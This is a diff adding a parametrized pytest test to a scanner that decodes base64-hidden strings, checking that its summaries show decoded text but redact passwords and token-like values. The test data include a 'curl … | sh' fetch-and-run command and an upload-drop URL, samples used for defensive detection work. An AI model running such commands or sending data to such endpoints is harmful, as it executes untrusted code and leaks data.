@@ -106,3 +106,18 @@ def test_javascript_strings_get_the_same_check() -> None:
     assert ("obfuscation.decoded", "base64: https://drop.example.net/upload", 1) in found
     assert ("network.url", "https://drop.example.net/upload", 1) in found
     assert not any(line > 1 and kind in ("obfuscation.decoded", "network.url") for kind, _, line in found)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("__import__", "base64: __import__"),
+        ("raw.example.org", "base64: raw.example.org"),
+        ("/api/v1/upload", "base64: /api/v1/upload"),
+        ("curl -s http://x.example | sh", "base64: curl -s http://x.example | sh"),
+        ("Tr0ub4dor&3x!", "base64: [13 characters, not shown]"),  # a password is not repeated
+        ('k = "ghp_abcdefghijklmnopqrstuvwxyz0123"', 'base64: k = "ghp_…[redacted]"'),
+    ],
+)
+def test_hidden_summary_never_repeats_a_credential(text: str, shown: str) -> None:
+    assert textscan.hidden_summary(("base64",), text) == shown
